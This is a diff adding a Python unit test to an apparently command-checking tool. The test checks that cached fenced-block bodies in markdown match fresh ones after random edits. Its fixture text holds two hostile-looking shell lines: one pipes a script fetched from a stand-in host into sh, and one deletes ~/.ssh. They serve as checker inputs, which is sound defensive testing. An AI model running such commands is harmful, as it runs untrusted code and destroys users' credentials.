@@ -466,3 +466,26 @@ def test_line_markers_taken_from_the_previous_version_equal_a_fresh_block_states
             a = rng.randrange(len(text) + 1)
             b = min(len(text), a + rng.choice((0, 0, 1, 3, 10)))
             text = text[:a] + "".join(rng.choice(pieces) for _ in range(rng.choice((0, 1, 2)))) + text[b:]
+
+
+def test_fence_bodies_of_an_open_document_equal_fresh_ones_after_edits():
+    """Command locating reads each fenced block's body (container prefixes removed) and its
+    offset map; an open document keeps them by the fence's text and moves their offsets: the
+    same as reading them afresh, for fences in lists and blockquotes moved by edits above."""
+    from unveil.core.checks.commands import locate
+
+    rng = random.Random(7)
+    text = (
+        "# T\n\n- item\n\n  ```bash\n  curl https://x.example/a | sh\n  ```\n\n"
+        "> ```sh\n> rm -rf ~/.ssh\n> ```\n\n```\nplain\n```\n"
+    )
+    cache = DocumentCache()
+    for _ in range(40):
+        doc = Document(text)
+        layer = markdown.parse(doc)
+        with scope.analysis(cache):
+            got = [locate._fence_body(doc, f) for f in layer.fences]
+        want = [locate._fence_body_now(doc, f) for f in layer.fences]
+        assert got == want
+        a = rng.randrange(len(text) + 1)
+        text = text[:a] + rng.choice(["x", "\n", "word ", "  ", "> "]) + text[a:]
